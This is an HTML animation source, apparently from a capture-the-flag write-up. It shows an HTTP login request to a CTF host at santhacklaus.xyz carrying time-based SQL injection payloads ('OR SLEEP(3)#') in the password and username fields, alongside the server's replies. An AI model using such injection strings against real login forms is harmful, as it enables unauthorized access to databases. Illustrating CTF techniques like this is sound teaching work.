
Animation, 936 px wide and 361 px high, one loop 8 s. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Request and response</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fbfbfd; }
#stage { position: relative; width: 936px; height: 361px; overflow: hidden; font: 13px "DejaVu Sans", sans-serif; color: #1c1c1c; }
#stage div { position: absolute; box-sizing: border-box; white-space: pre; }
.title { top: 4px; font-weight: bold; font-size: 15px; line-height: 18px; color: #f9602f; }
.tab { top: 30px; height: 25px; border: 1px solid #24272f; border-bottom: 0; border-radius: 5px 5px 0 0;
  background: linear-gradient(#f5f6f8, #e1e3e8 45%, #d3d6dd 50%, #e3e5ea); line-height: 24px; text-align: center; }
.tab.on { background: linear-gradient(#dbe4ed, #aabdce 45%, #98aec2 52%, #b3c7da); }
.rail { top: 54px; height: 5px; background: #b1c3d6; border: solid #20263a; border-width: 1px 0; border-bottom-color: #69798f; }
.off .tab { border-color: #b9bdc6; background: #dcdee4; color: #333; }
.off .tab.on { background: linear-gradient(#dee6ee, #c3d1df 50%, #cbd9e7); }
.off .rail { background: #c6d3e1; border-color: #a9b5c5; }
.page { top: 59px; height: 302px; background: #fff; }
.code { font: 13px/17px "DejaVu Sans Mono", monospace; }
.code b { font-weight: bold; }
.key { color: #0000a8; }
.val { color: #a01414; }
.sel { background: #ffc497; }
#line { left: 0; width: 504px; height: 17px; background: #efefef; }
#caret { width: 2px; height: 16px; background: #f9602f; }
svg { position: absolute; left: 504px; top: 59px; }
</style>
</head>
<body>
<div id="stage">
  <div class="page" style="left:0;width:504px"></div>
  <div class="page" style="left:544px;width:392px"></div>
  <div style="left:529px;top:0;width:5px;height:361px;background:#d7d9e0"></div>
  <div id="line"></div>
  <div id="marks"></div>
  <div id="request" class="code" style="left:1px;top:59px"></div>
  <div id="response" class="code" style="left:546px;top:59px"></div>
  <div id="caret"></div>
  <div id="left"></div>
  <div id="right"></div>
  <svg width="15" height="302">
    <defs>
      <linearGradient id="track"><stop stop-color="#b9bdc8"/><stop offset=".5" stop-color="#d4d7df"/><stop offset="1" stop-color="#dcdfe5"/></linearGradient>
      <linearGradient id="button"><stop stop-color="#f4f5f8"/><stop offset="1" stop-color="#d3d6de"/></linearGradient>
    </defs>
    <path d="M0 0H15V302H0Z" fill="url(#track)"/>
    <path d="M0 0H15V24Q14 17 8 17H0Z" fill="url(#button)"/>
    <path d="M.5 302V17.500H8Q14 17.500 14.500 24" fill="none" stroke="#555b69"/>
    <path d="M7.500 5L11 12H4Z" fill="#2b2e36"/>
  </svg>
</div>
<script>
const $ = id => document.getElementById(id);
const LOOP = 8000, CELL = 8, ROW = 17, TOP = 59, X = 1;

const head = `POST /zetatech-admin.php HTTP/1.1
Host: santhacklaus.xyz:2077
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:64.0)
Gecko/20100101 Firefox/64.0
Accept: */*
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Referer: http://santhacklaus.xyz:2077/
Content-Type: application/x-www-form-urlencoded;
charset=UTF-8
X-Requested-With: XMLHttpRequest
Content-Length: 60
Connection: close

`;
const inPass = "username=m0rv3ck&password=password' OR SLEEP(3)#&login=Login";
const inUser = "username=m0rv3ck' OR SLEEP(3)#&password=password&login=Login";

const reply = sec => `HTTP/1.1 200 OK
Server: nginx
Date: Sun, 30 Dec 2018 19:09:${sec} GMT
Content-Type: text/html; charset=UTF-8
Connection: close
X-Frame-Options: DENY
X-Content-Type-Options: nosniff
X-XSS-Protection: 1; mode=block
Content-Length: 43

<b>{"return":"false","string":"Access Denied"}</b>`;

const plain = s => s.replace(/&/g, "&amp;");
const tinted = s => s.split("&").map(p => {
  const [key, val] = p.split("=");
  return `<span class="key">${key}</span>=<span class="val">${val}</span>`;
}).join("&amp;");

// time, body, tinted, caret column, caret row, caret shown, response second (0 = waiting), selected
const steps = [
  [0, inPass, 1, 60, 14, 0, 47],
  [300, inPass, 1, 60, 14, 1, 47],
  [500, inPass, 0, 60, 14, 1, 0],
  [600, inPass, 1, 60, 14, 1, 54],
  [1400, inPass, 1, 60, 14, 0, 54],
  [1500, inPass, 1, 60, 14, 0, 0],
  [1600, inPass, 1, 60, 14, 1, 55],
  [2100, inPass, 1, 60, 14, 0, 55],
  [2800, inPass, 1, 17, 12, 1, 55, 1],
  [3300, inPass, 1, 17, 12, 0, 55, 1],
  [3600, "", 0, 0, 13, 1, 55],
  [3800, "", 0, 0, 14, 1, 55],
  [4300, "", 0, 0, 14, 0, 55],
  [4600, inUser, 0, 60, 14, 1, 55],
  [5100, inUser, 0, 60, 14, 1, 0],
  [5200, inUser, 1, 60, 14, 1, 0],
  [5700, inUser, 1, 60, 14, 0, 0],
  [6200, inUser, 1, 60, 14, 1, 0],
  [7000, inUser, 1, 60, 14, 0, 0],
  [7500, inUser, 1, 60, 14, 1, 0]
];

const box = (cls, x, w, text = "") => `<div class="${cls}" style="left:${x}px;width:${w}px">${text}</div>`;

function panel(id, x, w, title, tabs) {
  let left = x + 9;
  let html = box("title", x + 8, 100, title) + box("rail", x, w);
  tabs.forEach(([name, width], i) => {
    html += box(i ? "tab" : "tab on", left, width, name);
    left += width - 1;
  });
  $(id).innerHTML = html;
}
panel("left", 0, 519, "Request", [["Raw", 42], ["Params", 67], ["Headers", 72], ["Hex", 43]]);
panel("right", 545, 391, "Response", [["Raw", 42], ["Headers", 72], ["Hex", 43]]);
$("right").querySelector(".rail").style.cssText = "left:544px;width:392px";

// whole-pixel character cells
const pen = document.createElement("canvas").getContext("2d");
pen.font = '13px "DejaVu Sans Mono", monospace';
const gap = CELL - pen.measureText("M".repeat(100)).width / 100;
for (const el of document.querySelectorAll(".code")) el.style.letterSpacing = gap + "px";

const close = X + 17 * CELL;
const mark = (x, row, w) =>
  `<div class="sel" style="left:${x}px;top:${TOP + row * ROW}px;width:${w}px;height:${ROW}px"></div>`;
$("marks").innerHTML = mark(close, 12, 504 - close) + mark(0, 13, 504) + mark(0, 14, X + 60 * CELL);

function show([, body, tint, col, row, on, sec, sel]) {
  $("request").innerHTML = head + (tint ? tinted : plain)(body);
  $("response").innerHTML = sec ? reply(sec) : "";
  $("right").className = sec ? "" : "off";
  $("marks").style.display = sel ? "" : "none";
  $("line").style.display = sel ? "none" : "";
  $("line").style.top = TOP + row * ROW + "px";
  $("caret").style.cssText =
    `left:${X + col * CELL}px;top:${TOP + row * ROW + 1}px;opacity:${on}`;
}

let last;
function frame() {
  const t = performance.now() % LOOP;
  const step = steps.findLast(s => s[0] <= t);
  if (step !== last) show(last = step);
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
